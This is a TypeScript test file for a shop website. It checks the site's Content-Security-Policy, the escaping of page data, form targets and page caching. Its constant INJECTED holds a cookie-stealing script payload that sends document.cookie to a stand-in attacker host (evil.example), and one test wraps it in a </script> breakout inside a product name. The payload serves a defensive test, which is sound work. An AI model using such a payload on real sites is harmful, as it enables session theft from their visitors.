// On SQLite only: pages, the same code on both databases.
// Slow, not in `npm run check`: servers in child processes.
/** The Content-Security-Policy of documents: it allows the site's own code and the origins from the settings. */
import { createHash } from 'node:crypto'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import type { RouterContext, RouterContextProvider, ServerBuild } from 'react-router'
import { afterAll, beforeAll, expect, onTestFinished, test, vi } from 'vitest'
import { openShop, type TestShop } from '#test/shop.ts'
import { ensureBuilt } from '#test/torture/running-shop.ts'
import { sendRequest, listen } from '#test/wire.ts'
import { MINUTE } from '#server/kernel/time/clock.ts'
import type { Pages } from './render.ts'

const BUILT = join(import.meta.dirname, '../../../build/site/server/index.js')
const INJECTED = 'fetch("https://evil.example/" + document.cookie)'

type Render = (...given: never[]) => Promise<Response>

const built = async () => (await import(pathToFileURL(BUILT).href)) as ServerBuild

/** The real site; each rendered document is changed. */
async function siteWith(changed: (html: string) => string): Promise<ServerBuild> {
  const build = await built()
  const { default: render, ...more } = build.entry.module as unknown as {
    default: Render
    documentContext: RouterContext<{ html: string[] }>
  }
  const changing: Render = async (...given) => {
    const answer = await render(...given)
    const context: RouterContextProvider = given[4]!
    const document = context.get(more.documentContext)
    document.html = [changed(document.html.join(''))]
    return answer
  }
  return { ...build, entry: { module: { ...more, default: changing } } } as unknown as ServerBuild
}

/** The real site with a simulated vulnerability: every document contains a user's text as HTML. */
const vulnerableSite = () =>
  siteWith((html) => html.replace('</main>', `<script>${INJECTED}</script></main>`))

const pagesOf = (build: ServerBuild): Pages => ({
  build: async () => build,
  assets: null,
  files: null,
  mode: 'production',
})

const hashOf = (code: string) => `'sha256-${createHash('sha256').update(code).digest('base64')}'`

let shop: TestShop
beforeAll(async () => {
  ensureBuilt()
  shop = await openShop({ pages: pagesOf(await vulnerableSite()) })
}, 300_000)
afterAll(() => shop.close())

/** The real site; each document ends with the number of its rendering. */
function siteThatCounts(): Promise<ServerBuild> {
  let renderings = 0
  return siteWith((html) => `${html}<!-- rendering ${++renderings} -->`)
}

test('the policy of a document does not allow a script that was injected with a user’s text', async () => {
  const { text, headers } = await shop.visitor().get('/about')
  const policy = String(headers['content-security-policy'])
  expect(text).toContain(`<script>${INJECTED}</script>`)
  expect(policy).not.toContain(hashOf(INJECTED))
  // The site's own scripts, such as the data block, are still allowed.
  const data = /<script>(window\.__reactRouterContext = [\s\S]*?)<\/script>/.exec(text)?.[1] ?? ''
  expect(policy).toContain(hashOf(data))
})

test('the data of a page is a script that the policy allows, and a customer’s text cannot end it', async () => {
  const name = `</script><script>${INJECTED}</script>`
  const id = await shop.sell({ name })
  const { text, headers } = await shop.visitor().get(`/product/${id}`)
  expect(text).not.toContain(name)
  const script = /<script>(window\.__reactRouterContext\.streamController\.enqueue[\s\S]*?)<\/script>/.exec(
    text,
  )?.[1]
  expect(script).toContain('evil.example')
  // React Router would encode it more slowly.
  expect(script!.split('window.pageAnswers=')[0]).not.toContain('evil.example')
  expect(String(headers['content-security-policy'])).toContain(hashOf(script!))
})

test('a page contains of its data only what the contract names', async () => {
  const id = await shop.sell({ name: 'Contract Beans' })
  const { body } = await shop.visitor().get(`/api/products/${id}`)
  const { text } = await shop.visitor().get(`/product/${id}?other`)
  expect(text).toContain('Contract Beans')
  for (const field of ['search_text', 'hidden_at', 'is_draft', 'password_hash'])
    expect(text).not.toContain(field)
  expect(text).toContain(Object.keys(body as object)[0])
})

test.each([
  ['/product/nobody-has-it', 404],
  [`/search/${'a'.repeat(2000)}`, 400],
])('%s has the status of the refused call', async (path, status) => {
  const [page, data] = await Promise.all([
    shop.visitor().get(path),
    shop
      .visitor()
      .get(path.replace('/product/', '/api/products/').replace('/search/', '/api/products?keyword=')),
  ])
  expect([page.status, data.status]).toEqual([status, status])
})

/** Where the forms of the two pages are sent, and which origins their policies allow for that. */
async function formsOf(of: TestShop) {
  const found = await Promise.all(
    ['/', '/wholesale'].map(async (path) => {
      const { text, headers } = await of.visitor().get(path)
      const rule = (name: string) =>
        new RegExp(`${name} ([^;]*)`).exec(String(headers['content-security-policy']))?.[1]
      const action = /<form[^>]* action="([^"]*send)"/.exec(text)?.[1]
      return { action, mayCall: rule('connect-src'), maySend: rule('form-action') }
    }),
  )
  return found
}

test('the contact form and the wholesale form are sent to this shop', async () => {
  expect(await formsOf(shop)).toEqual([
    { action: '/send', mayCall: "'self'", maySend: "'self'" },
    { action: '/wholesale/send', mayCall: "'self'", maySend: "'self'" },
  ])
})

test('with MAIL_SERVICE_BASE the forms are sent to that address, with JavaScript and without', async () => {
  const other = await openShop({
    env: { MAIL_SERVICE_BASE: 'https://mail.example/frame/' },
    pages: pagesOf(await built()),
  })
  const rules = { mayCall: "'self' https://mail.example", maySend: "'self' https://mail.example" }
  expect(await formsOf(other)).toEqual([
    { action: 'https://mail.example/frame/send', ...rules },
    { action: 'https://mail.example/frame/wholesale/send', ...rules },
  ])
  // Read by the scripts of the page.
  expect((await other.visitor().get('/')).text).toContain('https://mail.example/frame\\"')
  await other.close()
})

test('a page whose data has no tags is cached for a minute and then rendered again', async () => {
  const counting = await openShop({ pages: pagesOf(await siteThatCounts()) })
  const port = await listen(counting)
  // A whole number, so that the sums below are exact.
  let now = Math.ceil(performance.now())
  const clock = vi.spyOn(performance, 'now').mockImplementation(() => now)
  onTestFinished(async () => {
    clock.mockRestore()
    await counting.close()
  })
  const rendering = async (path: string) =>
    /<!-- rendering (\d+) -->/.exec((await sendRequest(port, path)).text)?.[1] ?? null
  // On PostgreSQL, where another instance may write, a page is cached for five seconds at most, and the cache is
  // emptied whenever the connection for messages of other instances opens. So only a SQLite shop is checked for a
  // cached copy.
  const isAlone = counting.shop.config.databaseUrl === null
  // Pages with settings whose contract names no tag.
  for (const path of ['/register', '/reset']) {
    const first = await rendering(path)
    expect(first).not.toBeNull()
    now += MINUTE - 1000
    if (isAlone) expect(await rendering(path)).toBe(first)
    now += 1000
    const second = await rendering(path)
    expect(Number(second)).toBeGreaterThan(Number(first))
    now += 1000
    if (isAlone) expect(await rendering(path)).toBe(second)
  }
})

/** A shop that counts its renderings, and a function that returns what a page shows and which rendering it is. */
async function countingShop(env: Record<string, string> = {}) {
  const counting = await openShop({ env, pages: pagesOf(await siteThatCounts()) })
  onTestFinished(() => counting.close())
  const port = await listen(counting)
  const read = async (path: string, headers: Record<string, string> = {}) => {
    const answer = await sendRequest(port, path, { headers })
    const [, number = ''] = /<!-- rendering (\d+) -->/.exec(answer.text) ?? []
    return { ...answer, rendering: Number(number) }
  }
  return { counting, read }
}

/**
 * Repeats `check` until it passes: on PostgreSQL, the cache is emptied when the connection for messages of other
 * instances opens, which may happen between two reads.
 */
const whileCached = (check: () => Promise<void>) => vi.waitFor(check, { timeout: 10_000 })

test('a parameter that a page does not read causes no new rendering and does not appear in the page', async () => {
  const { counting, read } = await countingShop()
  const id = await counting.sell({ name: 'Campaign Beans' })
  for (const path of ['/', '/shop', '/about', `/product/${id}`, '/search/beans']) {
    await whileCached(async () => {
      const plain = await read(path)
      const campaign = await read(`${path}?utm_source=campaign-7f3&fbclid=abc&redirect=/cart`)
      expect([path, campaign.status, campaign.rendering]).toEqual([path, 200, plain.rendering])
      expect(campaign.text === plain.text).toBe(true)
      expect(/<link rel="canonical" href="[^"?]+"\/>/.test(campaign.text)).toBe(true)
    })
  }
  // The first visitor of a page comes with a parameter: the page is cached for all.
  await whileCached(async () => {
    const first = await read('/gallery?utm_source=campaign-7f3')
    expect(first.text.includes('campaign-7f3')).toBe(false)
    expect((await read('/gallery')).rendering).toBe(first.rendering)
  })
})

test('a parameter that a page reads gives a separate cached page', async () => {
  const { read } = await countingShop()
  const plain = await read('/login')
  await whileCached(async () => {
    const checkout = await read('/login?redirect=/shipping&utm_source=letter')
    expect(checkout.rendering).not.toBe(plain.rendering)
    expect([plain, checkout].map(({ text }) => text.includes('then continue to checkout'))).toEqual([
      false,
      true,
    ])
    expect((await read('/login?gclid=1&redirect=/shipping')).rendering).toBe(checkout.rendering)
  })
  const [sent, failed] = [await read('/wholesale?sent=success&x=1'), await read('/wholesale?sent=fail')]
  expect([sent, failed].map(({ text }) => text.includes('Failed to send message'))).toEqual([false, true])
})

test('the data of the API depends on all its parameters, also at an address with an encoded letter', async () => {
  const { counting, read } = await countingShop()
  await counting.sell({ name: 'Only Beans' })
  for (const path of ['/api/products', '/%61pi/products']) {
    expect((await read(path)).text).toContain('Only Beans')
    expect((await read(`${path}?keyword=nothing-has-this-name`)).text).not.toContain('Only Beans')
    expect((await read(`${path}?utm_source=letter`)).status).toBe(400)
  }
})

test('with CDN_SECONDS only pages have a header for CDNs, and browsers still revalidate each time', async () => {
  const { counting, read } = await countingShop({ CDN_SECONDS: '10' })
  const id = await counting.sell({ name: 'Far Beans' })
  const both = { 'cdn-cache-control': 'max-age=10', 'cache-control': 'no-cache' }
  await whileCached(async () => {
    // The second response is sent from the cache, and the third has no body.
    expect((await read('/shop')).headers).toMatchObject(both)
    const { headers } = await read('/shop')
    expect(headers).toMatchObject(both)
    const unchanged = await read('/shop', { 'if-none-match': String(headers.etag) })
    expect([unchanged.status, unchanged.headers]).toEqual([304, expect.objectContaining(both)])
  })
  for (const path of [`/api/products/${id}`, '/api/products', '/product/nobody-has-it', '/api/users/profile'])
    for (let time = 0; time < 2; time++)
      expect((await read(path)).headers).not.toHaveProperty('cdn-cache-control')
})

test('without CDN_SECONDS no response has a header for CDNs', async () => {
  const { read } = await countingShop()
  for (const path of ['/shop', '/shop', '/about'])
    expect((await read(path)).headers).not.toHaveProperty('cdn-cache-control')
})
